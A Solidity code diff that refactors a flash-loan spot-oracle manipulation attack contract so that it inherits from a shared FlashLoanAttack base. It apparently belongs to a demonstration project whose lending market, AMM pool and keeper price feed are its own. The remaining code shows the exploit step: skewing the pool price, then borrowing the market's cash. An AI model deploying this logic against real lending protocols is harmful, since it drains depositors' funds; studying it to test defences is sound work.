@@ -2,8 +2,8 @@
 pragma solidity 0.8.30;
 
 import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
-import {IERC3156FlashBorrower} from "@openzeppelin/contracts/interfaces/IERC3156FlashBorrower.sol";
 import {FlashLoanPool} from "../FlashLoanPool.sol";
+import {FlashLoanAttack} from "./FlashLoanAttack.sol";
 import {ConstantProductPool} from "../ConstantProductPool.sol";
 import {LendingMarket} from "../LendingMarket.sol";
 
@@ -18,40 +18,22 @@ import {LendingMarket} from "../LendingMarket.sol";
 ///   4. repay the flash loan; the rest is profit, sent to the deployer.
 /// If the market is paused, step 3 reverts and so does the whole transaction.
 /// Against a market priced by a KeeperPriceFeed it cannot repay and reverts too.
-contract SpotOracleAttack is IERC3156FlashBorrower {
-    bytes32 private constant CALLBACK_SUCCESS = keccak256("ERC3156FlashBorrower.onFlashLoan");
-
-    address public immutable owner;
+contract SpotOracleAttack is FlashLoanAttack {
     LendingMarket public immutable market;
     ConstantProductPool public immutable pool;
-    FlashLoanPool public immutable flashLender;
-    uint256 public immutable loanAmount;
 
-    error NotFlashLender(address caller);
-    error NoProfit();
-
-    constructor(LendingMarket market_, ConstantProductPool pool_, FlashLoanPool flashLender_, uint256 loanAmount_) {
-        owner = msg.sender;
+    constructor(LendingMarket market_, ConstantProductPool pool_, FlashLoanPool flashLender_, uint256 loanAmount_)
+        FlashLoanAttack(flashLender_, loanAmount_)
+    {
         market = market_;
         pool = pool_;
-        flashLender = flashLender_;
-        loanAmount = loanAmount_;
     }
 
-    function attack() external returns (uint256 profit) {
-        IERC20 debt = market.debtToken();
-        flashLender.flashLoan(this, address(debt), loanAmount, "");
-        profit = debt.balanceOf(address(this));
-        if (profit == 0) revert NoProfit();
-        debt.transfer(owner, profit);
+    function _loanToken() internal view override returns (IERC20) {
+        return market.debtToken();
     }
 
-    function onFlashLoan(address initiator, address token, uint256 amount, uint256 fee, bytes calldata)
-        external
-        override
-        returns (bytes32)
-    {
-        if (msg.sender != address(flashLender) || initiator != address(this)) revert NotFlashLender(msg.sender);
+    function _exploit(address token, uint256 amount) internal override {
         IERC20 collateral = market.collateralToken();
 
         IERC20(token).approve(address(pool), amount);
@@ -62,8 +44,5 @@ contract SpotOracleAttack is IERC3156FlashBorrower {
         uint256 limit = market.borrowLimit(address(this));
         uint256 cash = market.cash();
         market.borrow(limit < cash ? limit : cash);
-
-        IERC20(token).approve(address(flashLender), amount + fee);
-        return CALLBACK_SUCCESS;
     }
 }
